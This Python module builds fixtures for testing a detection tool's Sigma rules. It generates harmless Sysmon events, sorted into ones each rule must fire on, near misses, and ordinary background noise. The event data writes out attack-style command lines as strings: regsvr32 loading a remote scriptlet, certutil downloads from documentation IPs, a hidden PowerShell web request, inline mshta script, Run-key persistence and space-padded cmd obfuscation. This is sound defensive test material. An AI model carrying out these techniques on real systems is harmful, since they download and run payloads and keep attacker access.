"""Harmless Sysmon and Windows events in evtx_dump's JSON shape, for aptcatch's own Sigma rules.

Each bundled rule (``src/aptcatch/rules/sigma/*.yml``) gets a :class:`RuleCase`: events that must make
it fire and near misses that look alike but must not (the false positive its filter exists for, or the
same program doing something ordinary). :func:`background` is an ordinary workstation's noise that no
bundled rule may match. The lure chains follow the lures that :mod:`samplegen.build` writes (the Excel
macro's regsvr32 command and Startup script, the shortcut files, the remote template), so a scan of
those samples and a hunt over these events tell the same story.

The events are text describing what a process would have done; nothing here runs, and every host and
address is a reserved name (``.test``, ``example.org``) or a documentation range (192.0.2.0/24,
198.51.100.0/24, 203.0.113.0/24).

Pairing for tests: :func:`cases` maps rule ids to cases; :func:`labelled_events` and
:func:`write_samples` give every event an ``EventRecordID`` and a label (``fire:<rule id>``,
``miss:<rule id>``, ``background``).
"""

from __future__ import annotations

import hashlib
import json
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from samplegen.build import LURE_COMMAND, MSHTA_LINK, POWERSHELL_LINK, STARTUP_FILE

SYSMON_PROVIDER = {"Name": "Microsoft-Windows-Sysmon", "Guid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"}
SYSMON_CHANNEL = "Microsoft-Windows-Sysmon/Operational"
COMPUTER = "WS-ALICE.corp.example"
USER = "CORP\\alice"
SID = "S-1-5-21-1004336348-1177238915-682003330-1104"
START = datetime(2026, 11, 20, 8, 0, 0, tzinfo=UTC)
_NS = uuid.UUID("6b1f0d3e-6a0e-4f0b-9a57-0a9c3d1e5a11")

SYS32 = "C:\\Windows\\System32\\"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
WINWORD, EXCEL, OUTLOOK = OFFICE + "WINWORD.EXE", OFFICE + "EXCEL.EXE", OFFICE + "OUTLOOK.EXE"
EQNEDT = "C:\\Program Files (x86)\\Common Files\\Microsoft Shared\\EQUATION\\EQNEDT32.EXE"
EXPLORER = "C:\\Windows\\explorer.exe"
POWERSHELL = SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
CMD, WSCRIPT, MSHTA = SYS32 + "cmd.exe", SYS32 + "wscript.exe", SYS32 + "mshta.exe"
REGSVR32, CERTUTIL, RUNDLL32 = SYS32 + "regsvr32.exe", SYS32 + "certutil.exe", SYS32 + "rundll32.exe"
HOME = "C:\\Users\\alice\\"
ROAMING = HOME + "AppData\\Roaming\\"
STARTUP_USER = ROAMING + "Microsoft\\Windows\\Start Menu\\Programs\\Startup\\"
STARTUP_ALL = "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\"
OUTLOOK_CACHE = HOME + "AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7KX2M4B\\"
RUN_KEY = f"HKU\\{SID}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\"
VBA_DIR = "C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\"
# Harmless stand-in for an encoded PowerShell payload (what the shortcut sample carries).
ENCODED_CMD = POWERSHELL_LINK.arguments


@dataclass(frozen=True)
class Ev:
    """One event before it is dressed as evtx_dump JSON: the Sysmon event id and its EventData."""

    event_id: int
    data: dict[str, Any]
    channel: str = SYSMON_CHANNEL
    provider: dict[str, str] = field(default_factory=lambda: dict(SYSMON_PROVIDER))


@dataclass(frozen=True)
class RuleCase:
    """Events that must fire one bundled rule, and near misses that must not."""

    rule_id: str
    rule_name: str  # file stem under src/aptcatch/rules/sigma/
    fires: tuple[Ev, ...]
    near_misses: tuple[Ev, ...]


def _guid(*parts: object) -> str:
    return "{" + str(uuid.uuid5(_NS, "|".join(map(str, parts)))).upper() + "}"


def _pid(image: str) -> int:
    return 1000 + int(hashlib.sha256(image.lower().encode()).hexdigest()[:4], 16) % 60000


def _hashes(image: str) -> str:
    digest = hashlib.sha256(("aptcatch-sample:" + image.lower()).encode()).hexdigest().upper()
    return f"SHA256={digest}"


def proc(
    image: str,
    command_line: str,
    parent: str,
    parent_command_line: str | None = None,
    original: str | None = None,
    user: str = USER,
) -> Ev:
    """Sysmon 1, process creation (``original=""``: no OriginalFileName, as before Sysmon 8)."""
    name = image.rsplit("\\", 1)[-1]
    data: dict[str, Any] = {
        "RuleName": "-",
        "ProcessGuid": _guid("p", image, command_line),
        "ProcessId": _pid(image + command_line),
        "Image": image,
        "FileVersion": "10.0.19041.1 (WinBuild.160101.0800)",
        "Description": name,
        "Product": "Microsoft® Windows® Operating System",
        "Company": "Microsoft Corporation",
        "OriginalFileName": original if original is not None else name,
        "CommandLine": command_line,
        "CurrentDirectory": HOME,
        "User": user,
        "LogonGuid": _guid("logon", user),
        "LogonId": "0x3e7a21",
        "TerminalSessionId": 1,
        "IntegrityLevel": "Medium",
        "Hashes": _hashes(image),
        "ParentProcessGuid": _guid("p", parent),
        "ParentProcessId": _pid(parent),
        "ParentImage": parent,
        "ParentCommandLine": parent_command_line if parent_command_line is not None else f'"{parent}"',
        "ParentUser": user,
    }
    if original == "":
        del data["OriginalFileName"]
    return Ev(1, data)


def net(image: str, dst_ip: str, dst_host: str, dst_port: int = 443) -> Ev:
    """Sysmon 3, outbound network connection (``dst_host`` '-' when Sysmon had no name)."""
    return Ev(
        3,
        {
            "RuleName": "-",
            "ProcessGuid": _guid("p", image),
            "ProcessId": _pid(image),
            "Image": image,
            "User": USER,
            "Protocol": "tcp",
            "Initiated": "true",
            "SourceIsIpv6": "false",
            "SourceIp": "10.20.1.15",
            "SourceHostname": COMPUTER,
            "SourcePort": 49700 + dst_port % 200,
            "SourcePortName": "-",
            "DestinationIsIpv6": "false",
            "DestinationIp": dst_ip,
            "DestinationHostname": dst_host,
            "DestinationPort": dst_port,
            "DestinationPortName": {80: "http", 443: "https"}.get(dst_port, "-"),
        },
    )


def image_load(image: str, loaded: str) -> Ev:
    """Sysmon 7, a DLL loaded into a process."""
    name = loaded.rsplit("\\", 1)[-1]
    return Ev(
        7,
        {
            "RuleName": "-",
            "ProcessGuid": _guid("p", image),
            "ProcessId": _pid(image),
            "Image": image,
            "ImageLoaded": loaded,
            "FileVersion": "-",
            "Description": name,
            "Product": "-",
            "Company": "Microsoft Corporation",
            "OriginalFileName": name,
            "Hashes": _hashes(loaded),
            "Signed": "true",
            "Signature": "Microsoft Windows",
            "SignatureStatus": "Valid",
            "User": USER,
        },
    )


def file_create(image: str, target: str) -> Ev:
    """Sysmon 11, a file created."""
    return Ev(
        11,
        {
            "RuleName": "-",
            "ProcessGuid": _guid("p", image),
            "ProcessId": _pid(image),
            "Image": image,
            "TargetFilename": target,
            "CreationUtcTime": "2026-11-20 08:00:00.000",
            "User": USER,
        },
    )


def reg_set(image: str, target_object: str, details: str) -> Ev:
    """Sysmon 13, a registry value set."""
    return Ev(
        13,
        {
            "RuleName": "-",
            "EventType": "SetValue",
            "ProcessGuid": _guid("p", image),
            "ProcessId": _pid(image),
            "Image": image,
            "TargetObject": target_object,
            "Details": details,
            "User": USER,
        },
    )


def dns(image: str, query: str, results: str = "::ffff:198.51.100.23;") -> Ev:
    """Sysmon 22, a DNS query."""
    return Ev(
        22,
        {
            "RuleName": "-",
            "ProcessGuid": _guid("p", image),
            "ProcessId": _pid(image),
            "QueryName": query,
            "QueryStatus": "0",
            "QueryResults": results,
            "Image": image,
            "User": USER,
        },
    )


def _cases() -> Iterator[RuleCase]:
    yield RuleCase(
        "84da920a-b41f-46bf-9d6c-a9de957bc118",
        "office_spawns_script_host_or_lolbin",
        fires=(
            proc(REGSVR32, LURE_COMMAND, EXCEL, f'"{EXCEL}" "{HOME}Downloads\\travel_form.xlsm"'),
            proc(
                "C:\\Users\\Public\\svchelper.exe",
                "C:\\Users\\Public\\svchelper.exe -nop -c Write-Output aptcatch",
                WINWORD,
                original="PowerShell.EXE",
            ),
            proc(WSCRIPT, f'"{WSCRIPT}" "{OUTLOOK_CACHE}Scan_0193.js"', OUTLOOK),
        ),
        near_misses=(
            proc(RUNDLL32, f'"{RUNDLL32}" shell32.dll,OpenAs_RunDLL {OUTLOOK_CACHE}data.bin', OUTLOOK),
            proc(SYS32 + "splwow64.exe", f"{SYS32}splwow64.exe 8192", WINWORD),
        ),
    )
    yield RuleCase(
        "a0d4820a-9d2b-43d9-9c31-67c6d86dc970",
        "regsvr32_scriptlet_squiblydoo",
        fires=(
            proc(REGSVR32, LURE_COMMAND, EXCEL),
            proc(REGSVR32, "regsvr32.exe -s -u -i:C:\\Users\\Public\\cfg.sct scrobj.dll", CMD),
            proc(REGSVR32, "regsvr32 /s /i:https://192.0.2.15/a.sct C:\\Users\\Public\\x.dll", WSCRIPT),
            proc(
                "C:\\Users\\Public\\msupd.exe",
                "msupd.exe /u /s /i:http://192.0.2.15/a.sct .\\msupd.dll",
                CMD,
                original="",
            ),
        ),
        near_misses=(
            proc("C:\\Tools\\sync.exe", "sync.exe /u /i:C:\\Tools\\sync.ini", CMD, original=""),
            proc(REGSVR32, f"{REGSVR32} /s scrobj.dll", CMD),
            proc(REGSVR32, 'regsvr32.exe /s "C:\\Program Files\\Example Vendor\\plugin.dll"', CMD),
        ),
    )
    yield RuleCase(
        "8946ab40-73bc-463f-8465-3ed7735876f7",
        "mshta_remote_or_inline_script",
        fires=(
            proc(MSHTA, f'"{MSHTA}" {MSHTA_LINK.arguments}', EXPLORER),
            proc(
                MSHTA,
                'mshta.exe vbscript:CreateObject("WScript.Shell").Popup("aptcatch sample")(window.close)',
                WINWORD,
            ),
        ),
        near_misses=(proc(MSHTA, f'"{MSHTA}" "C:\\Program Files\\Example Vendor\\setup.hta"', EXPLORER),),
    )
    yield RuleCase(
        "f0531f14-7d83-4987-8da5-34bd5ef92c2c",
        "startup_folder_write_by_office_or_script_host",
        fires=(
            file_create(EXCEL, STARTUP_USER + STARTUP_FILE),
            file_create(WSCRIPT, STARTUP_ALL + "OneDriveSync.lnk"),
        ),
        near_misses=(
            file_create(EXPLORER, STARTUP_USER + "Notes.lnk"),
            file_create(WINWORD, ROAMING + "Microsoft\\Windows\\Start Menu\\Programs\\Word.lnk"),
        ),
    )
    yield RuleCase(
        "1205b47f-5706-4b67-87f3-6b0d73e1fd35",
        "office_writes_executable_or_script",
        fires=(
            file_create(WINWORD, ROAMING + "Microsoft\\Templates\\update.js"),
            file_create(OUTLOOK, OUTLOOK_CACHE + "Invoice_2020.pdf.lnk"),
            file_create(EXCEL, HOME + "AppData\\Local\\Temp\\wsupd.dll"),
        ),
        near_misses=(
            file_create(WINWORD, ROAMING + "Microsoft\\Office\\Recent\\Quarterly report.docx.LNK"),
            file_create(WINWORD, HOME + "Documents\\~$arterly report.docx"),
        ),
    )
    padded = f'"{CMD}" /c' + " " * 64 + f"{POWERSHELL} -nop -c Write-Output aptcatch"
    yield RuleCase(
        "466263d9-d0ca-4593-b674-58e5b0e57659",
        "explorer_shortcut_script_host_obfuscated",
        fires=(
            proc(POWERSHELL, f'"{POWERSHELL}" {ENCODED_CMD}', EXPLORER),
            proc(CMD, padded, EXPLORER),
            proc(
                POWERSHELL,
                "powershell.exe -WindowStyle Hidden -c Invoke-WebRequest https://example.org/p.txt",
                EXPLORER,
            ),
            proc(WSCRIPT, f'"{WSCRIPT}" //B "{HOME}Downloads\\' + "x" * 600 + '.js"', EXPLORER),
        ),
        near_misses=(
            proc(POWERSHELL, f'"{POWERSHELL}" ', EXPLORER),
            proc(CMD, f'"{CMD}" /c "C:\\Scripts\\map_drives.bat"', EXPLORER),
            proc(POWERSHELL, f"{POWERSHELL} {ENCODED_CMD}", "C:\\Program Files\\Example Agent\\agent.exe"),
        ),
    )
    yield RuleCase(
        "2b77a108-e889-48d3-b2ac-097ed26f2d66",
        "eqnedt32_child_process",
        fires=(proc(CMD, 'cmd.exe /c "C:\\Users\\Public\\wsupd.exe"', EQNEDT, f'"{EQNEDT}" -Embedding'),),
        near_misses=(proc(EQNEDT, f'"{EQNEDT}" -Embedding', SYS32 + "svchost.exe"),),
    )
    yield RuleCase(
        "c313a015-5226-4c52-be69-2cbf126bd982",
        "eqnedt32_network_connection",
        fires=(net(EQNEDT, "192.0.2.44", "-", 80),),
        near_misses=(net(WINWORD, "198.51.100.20", "ecs.office.com"),),
    )
    yield RuleCase(
        "6bfea582-9632-4ae8-b4ee-a1626192ab8f",
        "office_network_connection_raw_ip",
        fires=(net(WINWORD, "203.0.113.7", "-"), net(EXCEL, "192.0.2.61", "", 80)),
        near_misses=(
            net(OUTLOOK, "10.20.30.40", "-"),
            net(WINWORD, "198.51.100.20", "ecs.office.com"),
        ),
    )
    yield RuleCase(
        "bd02224b-fad0-4eb7-9510-05e236a99a52",
        "office_loads_script_runtime",
        fires=(image_load(WINWORD, SYS32 + "scrobj.dll"), image_load(EXCEL, SYS32 + "vbscript.dll")),
        near_misses=(image_load(WSCRIPT, SYS32 + "scrobj.dll"), image_load(WINWORD, SYS32 + "jscript9.dll")),
    )
    yield RuleCase(
        "19ee00ec-d182-4237-9ba7-00012d32d6d7",
        "office_loads_vba_engine",
        fires=(image_load(EXCEL, VBA_DIR + "VBE7.DLL"),),
        near_misses=(image_load(EXCEL, VBA_DIR + "1033\\VBE7INTL.DLL"),),
    )
    yield RuleCase(
        "68a877fe-f6b3-4973-b062-983a9a9aeef0",
        "certutil_download_or_decode",
        fires=(
            proc(
                CERTUTIL,
                "certutil.exe -urlcache -split -f http://192.0.2.30/p.txt C:\\Users\\Public\\p.txt",
                CMD,
            ),
            proc(CERTUTIL, "certutil /decode C:\\Users\\Public\\p.txt C:\\Users\\Public\\p.bin", WSCRIPT),
            proc(
                "C:\\Users\\Public\\cu.exe",
                "cu.exe /urlcache /f http://update.example-cdn.test/a.bin a.bin",
                CMD,
                original="CertUtil.exe",
            ),
        ),
        near_misses=(proc(CERTUTIL, f"certutil -hashfile {HOME}Downloads\\tool.iso SHA256", CMD),),
    )
    yield RuleCase(
        "26c99638-9d7f-4446-9ff3-cc7ef65ccf26",
        "script_host_sets_run_key",
        fires=(
            reg_set(WSCRIPT, RUN_KEY + "WpsUpdate", f'wscript.exe //B "{STARTUP_USER}{STARTUP_FILE}"'),
            reg_set(WINWORD, RUN_KEY.replace("\\Run\\", "\\RunOnce\\") + "Sync", "C:\\Users\\Public\\s.exe"),
        ),
        near_misses=(
            reg_set(
                POWERSHELL,
                f"HKU\\{SID}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Advanced\\HideFileExt",
                "DWORD (0x00000000)",
            ),
            reg_set(
                "C:\\Program Files\\Example Vendor\\setup.exe",
                RUN_KEY + "ExampleTray",
                '"C:\\Program Files\\Example Vendor\\tray.exe"',
            ),
        ),
    )
    yield RuleCase(
        "d08de194-236a-49c4-9db9-3220088515c4",
        "office_dns_query_outside_microsoft",
        fires=(dns(WINWORD, "templates.example-cdn.test"), dns(EXCEL, "files.example.org")),
        near_misses=(
            dns(WINWORD, "officeclient.microsoft.com"),
            dns(OUTLOOK, "mail.example.com"),
            dns(WINWORD, "FILESERVER01"),
        ),
    )
    yield RuleCase(
        "62554fc4-b681-4b45-9e69-0a299ce49ede",
        "script_host_spawns_shell_or_lolbin",
        fires=(
            proc(
                POWERSHELL,
                "powershell.exe -nop -c Write-Output aptcatch",
                WSCRIPT,
                f'"{WSCRIPT}" "{HOME}Downloads\\invoice.js"',
            ),
            proc(REGSVR32, LURE_COMMAND, MSHTA, f'"{MSHTA}" {MSHTA_LINK.arguments}'),
        ),
        near_misses=(
            proc(
                CMD,
                "cmd.exe /c net use S: \\\\files.corp.example\\share",
                WSCRIPT,
                f'"{WSCRIPT}" \\\\corp.example\\NETLOGON\\logon.vbs',
            ),
            proc(SYS32 + "notepad.exe", "notepad.exe C:\\Users\\alice\\readme.txt", WSCRIPT),
        ),
    )
    yield RuleCase(
        "5f6411a3-57bf-4148-83a9-2125d5dad879",
        "run_from_mail_attachment_or_archive_cache",
        fires=(
            proc(OUTLOOK_CACHE + "Invoice.exe", f'"{OUTLOOK_CACHE}Invoice.exe"', OUTLOOK),
            proc(
                WSCRIPT, f'"{WSCRIPT}" "{HOME}AppData\\Local\\Temp\\Temp1_invoice.zip\\invoice.js"', EXPLORER
            ),
            proc(MSHTA, f'"{MSHTA}" "{HOME}AppData\\Local\\Temp\\Rar$DIa4120.1\\brief.hta"', EXPLORER),
        ),
        near_misses=(
            proc(WINWORD, f'"{WINWORD}" /n "{OUTLOOK_CACHE}Agenda.docx"', OUTLOOK),
            proc(WSCRIPT, f'"{WSCRIPT}" "C:\\Scripts\\inventory.vbs"', EXPLORER),
        ),
    )


def cases() -> dict[str, RuleCase]:
    """Every bundled rule's case, by rule id."""
    return {c.rule_id: c for c in _cases()}


def background() -> tuple[Ev, ...]:
    """An ordinary morning on a workstation: none of the bundled rules may match any of these."""
    chrome = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
    onedrive = HOME + "AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe"
    security = {
        "Name": "Microsoft-Windows-Security-Auditing",
        "Guid": "{54849625-5478-4994-A5BA-3E3B0328C30D}",
    }
    return (
        proc(WINWORD, f'"{WINWORD}" /n "{HOME}Documents\\Quarterly report.docx"', EXPLORER),
        proc(EXCEL, f'"{EXCEL}" "{HOME}Documents\\budget.xlsx"', EXPLORER),
        proc(chrome, f'"{chrome}" --type=renderer --lang=en-US', chrome),
        proc(
            SYS32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p", SYS32 + "services.exe"
        ),
        proc(CMD, f'"{CMD}" ', EXPLORER),
        proc(SYS32 + "notepad.exe", f'"{SYS32}notepad.exe" {HOME}Desktop\\todo.txt', EXPLORER),
        net(WINWORD, "198.51.100.20", "ecs.office.com"),
        net(OUTLOOK, "10.20.30.40", "exch01.corp.example"),
        net(chrome, "198.51.100.80", "www.example.com"),
        dns(WINWORD, "nexus.officeapps.live.com"),
        dns(EXCEL, "login.microsoftonline.com"),
        dns(chrome, "www.example.com"),
        dns(OUTLOOK, "outlook.office365.com"),
        file_create(WINWORD, HOME + "Documents\\~$arterly report.docx"),
        file_create(EXCEL, HOME + "AppData\\Local\\Temp\\Excel8.0\\MSForms.exd"),
        file_create(chrome, HOME + "Downloads\\minutes.pdf"),
        image_load(WINWORD, SYS32 + "mshtml.dll"),
        image_load(EXCEL, OFFICE + "mso.dll"),
        reg_set(onedrive, RUN_KEY + "OneDrive", f'"{onedrive}" /background'),
        reg_set(
            SYS32 + "svchost.exe",
            "HKLM\\System\\CurrentControlSet\\Services\\W32Time\\Parameters\\Type",
            "NTP",
        ),
        Ev(
            4624,
            {"TargetUserName": "alice", "TargetDomainName": "CORP", "LogonType": 2, "IpAddress": "-"},
            channel="Security",
            provider=security,
        ),
        Ev(
            4688,
            {"NewProcessName": SYS32 + "notepad.exe", "ParentProcessName": EXPLORER, "CommandLine": ""},
            channel="Security",
            provider=security,
        ),
    )


def to_evtx_json(ev: Ev, record_id: int, when: datetime, computer: str = COMPUTER) -> dict[str, Any]:
    """One event in the shape ``evtx_dump -o jsonl`` prints (System block plus EventData)."""
    stamp = when.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    data = dict(ev.data)
    if ev.channel == SYSMON_CHANNEL:
        data = {"RuleName": data.pop("RuleName", "-"), "UtcTime": when.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]}
        data.update({k: v for k, v in ev.data.items() if k != "RuleName"})
    return {
        "Event": {
            "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
            "System": {
                "Provider": {"#attributes": dict(ev.provider)},
                "EventID": ev.event_id,
                "Version": 5,
                "Level": 4,
                "Task": ev.event_id if ev.channel == SYSMON_CHANNEL else 12544,
                "Opcode": 0,
                "Keywords": "0x8000000000000000",
                "TimeCreated": {"#attributes": {"SystemTime": stamp}},
                "EventRecordID": record_id,
                "Correlation": None,
                "Execution": {"#attributes": {"ProcessID": 3164, "ThreadID": 4120}},
                "Channel": ev.channel,
                "Computer": computer,
                "Security": {"#attributes": {"UserID": "S-1-5-18"}},
            },
            "EventData": data,
        }
    }


def labelled_events() -> list[tuple[str, dict[str, Any]]]:
    """Every case's events and the background, numbered from 1, as (label, evtx_dump JSON)."""
    plan: list[tuple[str, Ev]] = []
    for case in cases().values():
        plan += [(f"fire:{case.rule_id}", e) for e in case.fires]
        plan += [(f"miss:{case.rule_id}", e) for e in case.near_misses]
    plan += [("background", e) for e in background()]
    return [
        (label, to_evtx_json(ev, n, START + timedelta(seconds=7 * n)))
        for n, (label, ev) in enumerate(plan, 1)
    ]


def write_samples(outdir: Path) -> tuple[Path, Path]:
    """Write ``sysmon_lure_chains.jsonl`` and its labels (EventRecordID -> label) into ``outdir``."""
    outdir.mkdir(parents=True, exist_ok=True)
    events = labelled_events()
    jsonl, labels = outdir / "sysmon_lure_chains.jsonl", outdir / "sysmon_lure_chains.labels.json"
    jsonl.write_text("".join(json.dumps(e, ensure_ascii=False) + "\n" for _, e in events), encoding="utf-8")
    by_record = {str(e["Event"]["System"]["EventRecordID"]): label for label, e in events}
    labels.write_text(json.dumps(by_record, indent=1) + "\n", encoding="utf-8")
    return jsonl, labels
